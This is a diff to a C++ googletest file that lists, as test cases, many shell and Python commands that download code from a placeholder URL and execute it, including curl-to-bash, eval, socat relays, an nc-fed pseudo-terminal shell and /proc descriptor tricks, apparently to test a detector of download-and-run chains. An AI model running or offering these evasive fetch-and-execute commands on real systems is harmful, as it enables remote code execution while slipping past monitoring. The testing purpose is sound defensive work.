@@ -18,21 +18,26 @@ struct Limit {
 void PrintTo(const Limit& limit, std::ostream* stream) { *stream << limit.name; }
 
 const Limit kLimits[] = {
-    {"the text of an argument", "bash -c \"$(curl -s @URL)\""},
-    {"eval", "eval \"$(curl -s @URL)\""},
-    {"a here string", "bash <<< \"$(curl -s @URL)\""},
-    {"source in a running shell", "source <(curl -s @URL)"},
-    {"while read and eval", "curl -s @URL | while read -r line; do eval \"$line\"; done"},
-    {"a file in between", "curl -s -o @D/file @URL; bash @D/file"},
-    {"an interpreter that fetches",
+    {"an interpreter that fetches and runs by itself",
      "/usr/bin/python3 -c 'import urllib.request as u; exec(u.urlopen(\"@PYTHON_URL\").read())'"},
-    {"a fifo by path", "mkfifo @D/fifo; curl -s @URL > @D/fifo & bash @D/fifo"},
-    {"a pipe of the downloader's own",
-     "/usr/bin/python3 -c 'import subprocess, urllib.request as u; "
-     "subprocess.run([\"bash\"], input=u.urlopen(\"@URL\").read())'"},
-    {"a relay that does not exec",
-     "curl -s @URL | while read -r line; do echo \"$line\"; done | bash"},
-    {"code read by the text of an argument", "curl -s @URL | bash -c 'eval \"$(cat)\"'"},
+    {"eval of the shell's own commands alone, in dash", "dash -c 'eval \"$(curl -s @URL)\"'"},
+    {"a dot in dash, of the shell's own commands alone", "curl -s -o @D/f @URL; dash -c '. @D/f'"},
+    {"text that the shell has rewritten", "x=$(curl -s @URL); eval \"true; ${x/echo/printf %s}\""},
+    {"a program in a file that fetches a script and runs it",
+     "printf '%s\\n' 'import os, sys, urllib.request as u' "
+     "'u.urlretrieve(sys.argv[1], sys.argv[2])' 'os.system(\"sh \" + sys.argv[2])' > @D/d.py; "
+     "/usr/bin/python3 @D/d.py @URL @D/f"},
+    {"a program that runs a script it brought", "@SERVICE /x.sh @D/f"},
+    {"a module that python imports",
+     "curl -s -o @D/m.py @PYTHON_URL; cd @D; /usr/bin/python3 -c 'import m'"},
+    {"a relay on a unix socket",
+     "curl -s @URL | socat -u - UNIX-LISTEN:@D/s & until [ -e @D/s ]; do sleep 0.05; done; "
+     "socat -u UNIX-CONNECT:@D/s - | bash"},
+    {"a shell on a pseudo-terminal",
+     "(sleep 0.5; cat @D/local.sh; sleep 0.5; echo exit) | timeout 5 nc -l -p @PORT -q0 > "
+     "/dev/null & sleep 0.3; timeout 4 socat TCP:127.0.0.1:@PORT EXEC:bash,pty,stderr,setsid; "
+     "wait"},
+    {"another process's descriptor", "curl -s @URL | (bash /proc/$BASHPID/fd/0)"},
 };
 
 class ChainLimit : public testing::TestWithParam<Limit> {};
